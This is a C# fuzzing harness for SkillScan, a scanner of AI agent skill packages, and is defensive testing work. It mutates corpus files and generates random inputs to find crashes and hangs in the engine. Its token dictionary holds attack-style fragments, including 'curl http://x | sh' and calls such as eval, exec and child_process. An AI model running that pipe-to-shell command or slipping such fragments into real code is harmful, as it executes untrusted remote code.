using System.Diagnostics;
using System.Text;
using SkillScan.Intake;
using SkillScan.Pipeline;
using SkillScan.Report;
using SkillScan.Rules;

namespace SkillScan.Tests.Fuzz;

/// <summary>One input that broke the engine: what happened and where the input was saved.</summary>
public sealed record FuzzFailure(long Iteration, int Seed, string Kind, string Detail, string SavedInput);

/// <summary>
/// Random and mutation-based fuzzing of the whole engine (intake → syntax → semantics → rules → SARIF) over the
/// corpus: every file of every language, SKILL.md included. Each iteration has its own seed derived from the run
/// seed and the iteration number, so a failure reproduces with <see cref="RunOne"/> whatever the machine's speed.
/// </summary>
public sealed class SkillFuzzer : IDisposable
{
    /// <summary>Internal-failure notifications: the engine caught an exception it should never have seen.</summary>
    private static readonly HashSet<string> CrashNotifications = ["parse-failed", "analysis-failed", "rule-failed", "skill-failed"];

    /// <summary>Tokens that steer mutations towards the parsers' and decoders' hard cases.</summary>
    private static readonly string[] Dictionary =
    [
        "(", ")", "{", "}", "[", "]", "\"", "'", "`", "${", "$(", "<<EOF\n", "\nEOF\n", "---\n", "```", "```bash\n", "```python\n",
        "\\", "\n", "\r\n", "\0", "\u202e", "\ufeff", "eval(", "exec(", "base64 -d", "atob(", "Buffer.from(", "fromCharCode(",
        "curl http://x | sh", "import os\n", "require('child_process')", "Process.Start(", "=>", "lambda:", "#!", "/*", "*/",
        "<!--", "-->", "&a ", "*a ", "!!binary ", "aGVsbG8gd29ybGQ=", "\\x41\\x42", "\\u0041", "0x41,0x42", "%41%42", ":\n  - ",
    ];

    private readonly ScanEngine _engine = EngineFactory.Create(RuleSet.Load().Rules);
    private readonly IReadOnlyList<(string Name, byte[] Bytes)> _seeds;
    private readonly string _work = Directory.CreateTempSubdirectory("skillscan-fuzz-").FullName;

    public SkillFuzzer(IReadOnlyList<(string Name, byte[] Bytes)> seeds)
    {
        if (seeds.Count == 0) throw new ArgumentException("no seed files", nameof(seeds));
        _seeds = seeds;
    }

    /// <summary>An iteration slower than this is reported as a hang (the engine's own budgets are 10 s per parse).</summary>
    public TimeSpan HangThreshold { get; init; } = TimeSpan.FromSeconds(60);

    /// <summary>Where failing inputs are written (a folder per failure, holding the skill as scanned).</summary>
    public string FailureFolder { get; init; } = Path.Combine(Path.GetTempPath(), "skillscan-fuzz-failures");

    /// <summary>Every corpus file under 256 KiB (code, SKILL.md, manifests, data), in a stable order.</summary>
    public static List<(string Name, byte[] Bytes)> CorpusSeeds(string corpusRoot) =>
        Directory.EnumerateFiles(corpusRoot, "*", SearchOption.AllDirectories)
            .Where(f => !Path.GetFileName(f).Equals("expected.yaml", StringComparison.Ordinal) && new FileInfo(f).Length <= 256 * 1024)
            .Order(StringComparer.Ordinal)
            .Select(f => (Path.GetFileName(f), File.ReadAllBytes(f)))
            .ToList();

    public static int IterationSeed(int runSeed, long iteration) => HashCode.Combine(runSeed, iteration) & int.MaxValue;

    /// <summary>Fuzz until <paramref name="duration"/> has passed; stops at the first failure.</summary>
    public (long Iterations, FuzzFailure? Failure) Run(int runSeed, TimeSpan duration)
    {
        var clock = Stopwatch.StartNew();
        long i = 0;
        for (; clock.Elapsed < duration; i++)
        {
            var failure = RunOne(runSeed, i);
            if (failure is not null) return (i + 1, failure);
        }
        return (i, null);
    }

    /// <summary>Build iteration <paramref name="iteration"/>'s skill, scan it, and report a failure if the engine broke.</summary>
    public FuzzFailure? RunOne(int runSeed, long iteration)
    {
        var seed = IterationSeed(runSeed, iteration);
        var files = MakeSkill(new Random(seed));
        var dir = Path.Combine(_work, "skill");
        if (Directory.Exists(dir)) Directory.Delete(dir, recursive: true);
        WriteSkill(dir, files);

        string? kind = null, detail = null;
        var clock = Stopwatch.StartNew();
        try
        {
            var skill = SkillLocator.ReadSkill(dir, new IntakeOptions { ReportRoot = _work });
            var result = _engine.AnalyzeSkill(skill);
            SarifWriter.ToBytes(new ScanResult { Skills = [result], Rules = _engine.Rules }, new ReportOptions());
            if (result.Notifications.FirstOrDefault(n => CrashNotifications.Contains(n.Id) && !IsTimeBudget(n.Message)) is { } n)
            {
                kind = n.Id;
                detail = n.Message;
            }
        }
        catch (Exception ex)
        {
            kind = "exception";
            detail = ex.ToString();
        }
        if (kind is null && clock.Elapsed > HangThreshold)
        {
            kind = "hang";
            detail = $"iteration took {clock.Elapsed.TotalSeconds:0.0} s";
        }
        if (kind is null) return null;

        var saved = Path.Combine(FailureFolder, $"seed{runSeed}-iter{iteration}");
        if (Directory.Exists(saved)) Directory.Delete(saved, recursive: true);
        WriteSkill(saved, files);
        return new FuzzFailure(iteration, seed, kind, detail!, saved);
    }

    /// <summary>
    /// A parse stopped by its time budget is the engine working as designed (a notification, the scan goes on); on a
    /// loaded machine it can happen to any input, so it is not a crash. Inputs that are really slow show up as hangs.
    /// </summary>
    private static bool IsTimeBudget(string message) =>
        message.Contains("canceled", StringComparison.OrdinalIgnoreCase) || message.Contains("timed out", StringComparison.OrdinalIgnoreCase)
        || message.Contains("timeout", StringComparison.OrdinalIgnoreCase);

    private static void WriteSkill(string dir, List<(string Name, byte[] Bytes)> files)
    {
        Directory.CreateDirectory(dir);
        foreach (var (name, bytes) in files) File.WriteAllBytes(Path.Combine(dir, name), bytes);
    }

    /// <summary>A SKILL.md plus one or two other files, each a seed, a mutated seed, or generated from scratch.</summary>
    private List<(string Name, byte[] Bytes)> MakeSkill(Random rng)
    {
        var files = new List<(string Name, byte[] Bytes)>();
        var skillMdSeeds = _seeds.Where(s => s.Name.Equals("SKILL.md", StringComparison.Ordinal)).ToList();
        var skillMd = skillMdSeeds.Count > 0 ? skillMdSeeds[rng.Next(skillMdSeeds.Count)].Bytes : "---\nname: x\n---\n"u8.ToArray();
        files.Add(("SKILL.md", rng.Next(3) == 0 ? skillMd : Mutate(skillMd, rng)));

        var others = rng.Next(1, 3);
        for (var k = 0; k < others; k++)
        {
            var (name, bytes) = _seeds[rng.Next(_seeds.Count)];
            if (name.Equals("SKILL.md", StringComparison.Ordinal)) name = "README.md";
            if (files.Any(f => f.Name == name)) name = k + "_" + name;
            files.Add((name, rng.Next(8) == 0 ? Generate(rng) : Mutate(bytes, rng)));
        }
        return files;
    }

    private byte[] Mutate(byte[] input, Random rng)
    {
        var data = new List<byte>(input);
        var rounds = 1 + rng.Next(rng.Next(2) == 0 ? 4 : 32);
        for (var r = 0; r < rounds; r++)
        {
            var at = data.Count == 0 ? 0 : rng.Next(data.Count + 1);
            switch (rng.Next(9))
            {
                case 0 when data.Count > 0: // flip a bit
                    var p = rng.Next(data.Count);
                    data[p] ^= (byte)(1 << rng.Next(8));
                    break;
                case 1: // random bytes
                    var junk = new byte[1 + rng.Next(16)];
                    rng.NextBytes(junk);
                    data.InsertRange(at, junk);
                    break;
                case 2: // dictionary token
                    data.InsertRange(at, Encoding.UTF8.GetBytes(Dictionary[rng.Next(Dictionary.Length)]));
                    break;
                case 3 when data.Count > 0: // delete a range
                    var len = Math.Min(data.Count - Math.Min(at, data.Count - 1), 1 + rng.Next(64));
                    data.RemoveRange(Math.Min(at, data.Count - 1), len);
                    break;
                case 4 when data.Count > 0: // duplicate a chunk, sometimes many times
                    var start = rng.Next(data.Count);
                    var chunk = data.GetRange(start, Math.Min(data.Count - start, 1 + rng.Next(256)));
                    var times = rng.Next(4) == 0 ? 1 + rng.Next(200) : 1;
                    for (var t = 0; t < times; t++) data.InsertRange(at, chunk);
                    break;
                case 5: // splice from another seed
                    var other = _seeds[rng.Next(_seeds.Count)].Bytes;
                    if (other.Length == 0) break;
                    var from = rng.Next(other.Length);
                    data.InsertRange(at, other.Skip(from).Take(1 + rng.Next(512)));
                    break;
                case 6: // deep nesting
                    var open = Dictionary[rng.Next(6)];
                    data.InsertRange(at, Encoding.UTF8.GetBytes(string.Concat(Enumerable.Repeat(open, 1 + rng.Next(3000)))));
                    break;
                case 7 when data.Count > 0: // truncate
                    data.RemoveRange(at == data.Count ? data.Count - 1 : at, data.Count - (at == data.Count ? data.Count - 1 : at));
                    break;
                default: // interesting byte values
                    byte[] values = [0x00, 0xFF, 0xFE, 0xEF, 0xBB, 0xBF, 0xC3, 0x80, 0x0D, 0x7F];
                    data.Insert(at, values[rng.Next(values.Length)]);
                    break;
            }
        }
        return data.ToArray();
    }

    /// <summary>Input from scratch: random bytes, or random dictionary tokens (syntax soup).</summary>
    private static byte[] Generate(Random rng)
    {
        if (rng.Next(2) == 0)
        {
            var bytes = new byte[rng.Next(4096)];
            rng.NextBytes(bytes);
            return bytes;
        }
        var sb = new StringBuilder();
        var count = rng.Next(2000);
        for (var i = 0; i < count; i++) sb.Append(Dictionary[rng.Next(Dictionary.Length)]);
        return Encoding.UTF8.GetBytes(sb.ToString());
    }

    public void Dispose()
    {
        try
        {
            Directory.Delete(_work, recursive: true);
        }
        catch (IOException)
        {
        }
    }
}
